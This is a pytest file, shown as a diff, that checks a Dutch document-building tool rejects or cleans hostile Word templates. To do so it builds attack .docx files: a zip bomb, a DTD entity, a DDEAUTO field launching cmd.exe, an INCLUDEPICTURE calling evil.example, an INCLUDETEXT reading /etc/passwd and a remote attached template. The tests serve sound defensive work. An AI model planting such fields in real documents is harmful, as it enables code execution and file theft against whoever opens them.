@@ -1,0 +1,329 @@
+"""Huisstijl files from the real world and from attackers (issue 13, items 2, 17 and 18).
+
+- A .docx written by LibreOffice (no numbering part) builds, with one warning line naming what it lacks.
+- A zip bomb (a small file that unpacks into a huge styles.xml) is refused before it is unpacked.
+- A DTD in any part is refused (exit 2); remote templates, DDEAUTO/INCLUDEPICTURE fields and file://
+  links are stripped from every output, with one warning line.
+Every attack file is made here, by the test.
+"""
+
+from __future__ import annotations
+
+import io
+import shutil
+import subprocess
+import sys
+import time
+import zipfile
+from pathlib import Path
+
+import docx
+import pytest
+from click.testing import CliRunner
+
+from ivplan.cli.commands import main
+
+DATA = Path(__file__).parent / "data"
+MINIMAL = DATA / "minimal_plan.yaml"
+NAME = "voorbeeldstad-ivp-2027-2030"
+VALIDATE = Path("/work/shared/ooxml/validate.py")
+W = "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}"
+
+
+def _build(huisstijl: Path, out: Path, *extra: str):
+    result = CliRunner().invoke(
+        main, ["build", str(MINIMAL), "-o", str(out), "--jobs", "1", "--huisstijl", str(huisstijl), *extra]
+    )
+    assert "Traceback" not in result.output, result.output
+    assert result.exception is None or isinstance(result.exception, SystemExit), repr(result.exception)
+    return result
+
+
+def _warnings(result) -> list[str]:
+    return [line for line in result.stderr.splitlines() if line.startswith("ivplan: waarschuwing:")]
+
+
+def _all_xml(path: Path) -> str:
+    with zipfile.ZipFile(path) as z:
+        return "\n".join(z.read(n).decode("utf-8", "replace") for n in z.namelist() if n.endswith((".xml", ".rels")))
+
+
+def _assert_opens(path: Path) -> None:
+    docx.Document(str(path))  # python-docx reads every part
+    if VALIDATE.is_file():
+        run = subprocess.run([sys.executable, str(VALIDATE), str(path)], capture_output=True, text=True)
+        assert run.returncode == 0 and "0 schema problems" in run.stdout, run.stdout + run.stderr
+
+
+# --------------------------------------------------------------------------------------------------
+# Item 2: a .docx that LibreOffice wrote
+
+
+def _soffice() -> str | None:
+    return shutil.which("soffice") or shutil.which("libreoffice")
+
+
+def _through_libreoffice(source: Path, folder: Path) -> Path:
+    """`source` converted to .docx by LibreOffice (a profile folder of its own)."""
+    profile = folder / "lo-profiel"
+    subprocess.run(
+        [
+            _soffice(),
+            f"-env:UserInstallation=file://{profile}",
+            "--headless",
+            "--convert-to",
+            "docx:MS Word 2007 XML",
+            "--outdir",
+            str(folder),
+            str(source),
+        ],
+        check=True,
+        capture_output=True,
+        timeout=180,
+    )
+    made = folder / (source.stem + ".docx")
+    assert made.is_file()
+    return made
+
+
+@pytest.mark.skipif(_soffice() is None, reason="needs LibreOffice")
+@pytest.mark.parametrize("start", ["odt", "docx-met-kop-en-voet"])
+def test_a_huisstijl_written_by_libreoffice_builds_with_one_warning(tmp_path, start):
+    work = tmp_path / "lo"
+    work.mkdir()
+    if start == "odt":
+        # a gemeente's own LibreOffice document: HTML -> .odt -> .docx, all by LibreOffice
+        html = work / "huisstijl.html"
+        html.write_text("<html><body><h1>Gemeente</h1><p>Huisstijl.</p></body></html>", encoding="utf-8")
+        odt = _through_libreoffice_to(html, work, "odt")
+        made = _through_libreoffice(odt, work)
+    else:
+        ref = docx.Document()
+        ref.sections[0].header.paragraphs[0].text = "Gemeente Voorbeeldstad - koptekst"
+        ref.sections[0].footer.paragraphs[0].text = "oude voettekst"
+        ref.add_paragraph("Inhoud die weg moet.")
+        source = work / "bron.docx"
+        ref.save(str(source))
+        (work / "uit-lo").mkdir()
+        made = _through_libreoffice(source, work / "uit-lo")
+    with zipfile.ZipFile(made) as z:
+        has_numbering = "word/numbering.xml" in z.namelist()
+    # LibreOffice writes no numbering part for a file without lists (python-docx failed on it)
+    assert has_numbering == (start != "odt")
+    out = tmp_path / "uit"
+    result = _build(made, out)
+    assert result.exit_code == 0, result.output
+    assert "interne fout" not in result.stderr
+    [warning] = _warnings(result)  # what it lacks, on one line
+    assert warning.startswith("ivplan: waarschuwing: huisstijl mist ")
+    assert ("de nummering (numbering.xml)" in warning) == (not has_numbering)
+    for kind in ("plan", "raadsvoorstel"):
+        _assert_opens(out / f"{NAME}-{kind}.docx")
+    if start != "odt":
+        text = _all_xml(out / f"{NAME}-plan.docx")
+        assert "Gemeente Voorbeeldstad - koptekst" in text  # the huisstijl's header is kept
+        assert "Inhoud die weg moet" not in text
+
+
+def _through_libreoffice_to(source: Path, folder: Path, fmt: str) -> Path:
+    profile = folder / "lo-profiel"
+    subprocess.run(
+        [
+            _soffice(),
+            f"-env:UserInstallation=file://{profile}",
+            "--headless",
+            "--convert-to",
+            fmt,
+            "--outdir",
+            str(folder),
+            str(source),
+        ],
+        check=True,
+        capture_output=True,
+        timeout=180,
+    )
+    return folder / f"{source.stem}.{fmt}"
+
+
+# --------------------------------------------------------------------------------------------------
+# Item 17: zip bombs
+
+
+def _plain_huisstijl() -> bytes:
+    buffer = io.BytesIO()
+    ref = docx.Document()
+    ref.sections[0].header.paragraphs[0].text = "Koptekst van de gemeente"
+    ref.save(buffer)
+    return buffer.getvalue()
+
+
+def _with_members(base: bytes, replace: dict[str, bytes | tuple[int, bytes]], target: Path) -> Path:
+    """`base` with members replaced or added: bytes, or (count, chunk) for a member streamed as `count`
+    copies of `chunk` (a bomb that is never held in memory here)."""
+    with zipfile.ZipFile(io.BytesIO(base)) as src, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as dst:
+        for info in src.infolist():
+            if info.filename not in replace:
+                dst.writestr(info.filename, src.read(info.filename))
+        for member, content in replace.items():
+            if isinstance(content, bytes):
+                dst.writestr(member, content)
+                continue
+            count, chunk = content
+            with dst.open(member, "w", force_zip64=True) as fh:
+                fh.write(
+                    b'<?xml version="1.0"?><w:styles xmlns:w="http://schemas.openxmlformats.org/'
+                    b'wordprocessingml/2006/main">'
+                )
+                for _ in range(count):
+                    fh.write(chunk)
+                fh.write(b"</w:styles>")
+    return target
+
+
+def test_a_zip_bomb_huisstijl_is_refused_before_it_is_unpacked(tmp_path):
+    # 256 MB of styles.xml packed into well under 1 MB
+    bomb = _with_members(_plain_huisstijl(), {"word/styles.xml": (256, b" " * 2**20)}, tmp_path / "bom.docx")
+    assert bomb.stat().st_size < 2**20
+    out = tmp_path / "uit"
+    started = time.monotonic()
+    result = _build(bomb, out)
+    elapsed = time.monotonic() - started
+    assert result.exit_code == 2, result.output
+    assert "bom.docx' is te groot: word/styles.xml wordt uitgepakt 256 MB" in result.stderr
+    assert elapsed < 5, elapsed  # it was unpacked and parsed before: 8 s and 4 GB for 2 GB
+    assert not out.exists() or not list(out.iterdir())
+
+
+def test_a_huisstijl_packed_suspiciously_tight_is_refused(tmp_path):
+    # 8 MB (below the size bound) that packs a thousandfold: no Word file looks like that
+    bomb = _with_members(_plain_huisstijl(), {"word/media/image9.png": b"\0" * (8 * 2**20)}, tmp_path / "dicht.docx")
+    result = _build(bomb, tmp_path / "uit")
+    assert result.exit_code == 2, result.output
+    assert "dicht.docx' is verdacht: word/media/image9.png" in result.stderr
+    assert "zipbom" in result.stderr
+
+
+def test_a_huisstijl_with_too_much_in_total_is_refused(tmp_path):
+    import os
+
+    parts = {f"word/media/foto{i}.jpeg": os.urandom(24 * 2**20) for i in range(3)}  # 72 MB, incompressible
+    result = _build(_with_members(_plain_huisstijl(), parts, tmp_path / "vol.docx"), tmp_path / "uit")
+    assert result.exit_code == 2, result.output
+    assert "vol.docx' is te groot: uitgepakt 73 MB (meer dan 64 MB)" in result.stderr
+
+
+# --------------------------------------------------------------------------------------------------
+# Item 18: DTDs and what reaches outside
+
+
+def _header_name(base: bytes) -> str:
+    with zipfile.ZipFile(io.BytesIO(base)) as z:
+        return next(n for n in z.namelist() if n.startswith("word/header") and n.endswith(".xml"))
+
+
+def test_a_huisstijl_with_a_dtd_entity_is_refused_and_nothing_corrupt_is_written(tmp_path):
+    base = _plain_huisstijl()
+    header = _header_name(base)
+    with zipfile.ZipFile(io.BytesIO(base)) as z:
+        xml = z.read(header).decode("utf-8")
+    # a harmless internal entity, as in the issue: it used to be copied without its definition
+    xml = xml.replace("?>", '?><!DOCTYPE w:hdr [<!ENTITY gem "Gemeente X">]>', 1).replace(
+        "Koptekst van de gemeente", "&gem; koptekst"
+    )
+    ref = _with_members(base, {header: xml.encode("utf-8")}, tmp_path / "dtd.docx")
+    out = tmp_path / "uit"
+    result = _build(ref, out)
+    assert result.exit_code == 2, result.output
+    assert f"dtd.docx' bevat een DTD (<!DOCTYPE> in {header})" in result.stderr
+    assert not out.exists() or not list(out.glob("*.docx"))
+
+
+def _outside_huisstijl(tmp_path: Path) -> Path:
+    """A huisstijl with a remote attached template, a DDEAUTO and an INCLUDEPICTURE field, a simple
+    INCLUDETEXT field, a file:// hyperlink and a linked (not embedded) remote picture in its header."""
+    base = _plain_huisstijl()
+    header = _header_name(base)
+    rels_name = header.replace("word/", "word/_rels/") + ".rels"
+    with zipfile.ZipFile(io.BytesIO(base)) as z:
+        header_xml = z.read(header).decode("utf-8")
+        settings = z.read("word/settings.xml").decode("utf-8")
+        names = z.namelist()
+    r = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
+    fields = (
+        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> DDEAUTO '
+        'c:\\\\windows\\\\system32\\\\cmd.exe "/c calc" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/>'
+        '</w:r><w:r><w:t>DDE-RESULTAAT</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
+        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> INCLUDE'
+        '</w:instrText></w:r><w:r><w:instrText xml:space="preserve">PICTURE "http://evil.example/p.png" \\d '
+        '</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:t>blijft staan</w:t></w:r></w:p>'
+        '<w:p><w:fldSimple w:instr=" INCLUDETEXT &quot;file:///etc/passwd&quot; "><w:r><w:t>INCLUDE-RESULTAAT</w:t>'
+        "</w:r></w:fldSimple></w:p>"
+        f'<w:p><w:hyperlink {r} r:id="rIdFile"><w:r><w:t>gedeelde map</w:t></w:r></w:hyperlink>'
+        f'<w:hyperlink {r} r:id="rIdWeb"><w:r><w:t>website</w:t></w:r></w:hyperlink></w:p>'
+    )
+    header_xml = header_xml.replace("</w:hdr>", fields + "</w:hdr>")
+    header_rels = (
+        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
+        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+        '<Relationship Id="rIdFile" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
+        'hyperlink" Target="file:///\\\\server\\share" TargetMode="External"/>'
+        '<Relationship Id="rIdWeb" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
+        'hyperlink" Target="https://www.voorbeeldstad.nl/" TargetMode="External"/>'
+        "</Relationships>"
+    )
+    settings = settings.replace("<w:defaultTabStop", f'<w:attachedTemplate {r} r:id="rIdTpl"/><w:defaultTabStop', 1)
+    assert "attachedTemplate" in settings
+    settings_rels = (
+        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
+        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+        '<Relationship Id="rIdTpl" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
+        'attachedTemplate" Target="http://evil.example/sjabloon.dotm" TargetMode="External"/>'
+        "</Relationships>"
+    )
+    assert rels_name not in names
+    return _with_members(
+        base,
+        {
+            header: header_xml.encode("utf-8"),
+            rels_name: header_rels.encode("utf-8"),
+            "word/settings.xml": settings.encode("utf-8"),
+            "word/_rels/settings.xml.rels": settings_rels.encode("utf-8"),
+        },
+        tmp_path / "naar-buiten.docx",
+    )
+
+
+def test_what_a_huisstijl_points_outside_is_stripped_from_every_output_with_one_warning(tmp_path):
+    ref = _outside_huisstijl(tmp_path)
+    out = tmp_path / "uit"
+    result = _build(ref, out)
+    assert result.exit_code == 0, result.output
+    warnings = [w for w in _warnings(result) if "naar buiten" in w]
+    assert warnings == [
+        "ivplan: waarschuwing: huisstijl verwijst naar buiten het document (een gekoppeld sjabloon, een veld "
+        "als DDEAUTO of INCLUDEPICTURE, of een file://-koppeling); dat is uit de documenten weggelaten"
+    ]
+    for kind in ("plan", "raadsvoorstel"):
+        path = out / f"{NAME}-{kind}.docx"
+        text = _all_xml(path)
+        for gone in (
+            "DDEAUTO",
+            "INCLUDEPICTURE",
+            "INCLUDETEXT",
+            "DDE-RESULTAAT",
+            "INCLUDE-RESULTAAT",
+            "evil.example",
+            "file:",
+            "attachedTemplate",
+            "\\\\server",
+        ):
+            assert gone not in text, (kind, gone)
+        for kept in (
+            "Koptekst van de gemeente",
+            "gedeelde map",
+            "website",
+            "https://www.voorbeeldstad.nl/",
+            "blijft staan",
+        ):
+            assert kept in text, (kind, kept)
+        _assert_opens(path)
